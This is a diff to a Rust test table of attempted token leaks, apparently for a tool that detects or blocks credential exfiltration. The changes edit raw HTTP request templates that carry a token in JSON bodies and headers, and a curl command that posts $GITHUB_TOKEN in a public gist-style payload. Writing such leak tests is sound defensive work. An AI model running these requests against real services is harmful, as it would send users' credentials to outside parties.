@@ -31,7 +31,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         14,
         Leaks,
         Bound,
-        "POST /echo HTTP/1.1\r\nHost: {H}\r\n{A}Content-Type: application/json\r\nContent-Length: {CL}\r\nConnection: close\r\n\r\n{T}",
+        "POST /echo HTTP/1.1\r\nHost: {H}\r\n{A}Content-Type: application/json\r\nContent-Length: {CL}\r\nConnection: close\r\n\r\n{\"token\":\"{T}\"}",
     ),
     asks(
         "token in a form body",
@@ -47,7 +47,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         14,
         Leaks,
         Bound,
-        "POST /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nContent-Type: application/json\r\nContent-Length: {CL}\r\nConnection: close\r\n\r\n{T}",
+        "POST /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nContent-Type: application/json\r\nContent-Length: {CL}\r\nConnection: close\r\n\r\n[\"{T}\",{\"token\":\"{T}\"}]",
     ),
     asks(
         "token as a header's name",
@@ -168,7 +168,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         14,
         Leaks,
         &["curl"],
-        "$C -i \"$BASE/echo\" -H \"$NAMED\" -d '{\"files\":{\"a\":{\"content\":\"'$GITHUB_TOKEN'\"}},\"public\":true}'",
+        "$C -i \"$BASE/echo\" -H \"$NAMED\" -H 'content-type: application/json' -d '{\"files\":{\"a\":{\"content\":\"'$GITHUB_TOKEN'\"}},\"public\":true}'",
     ),
     shell(
         "token in an HTTP/2 request's body and query",
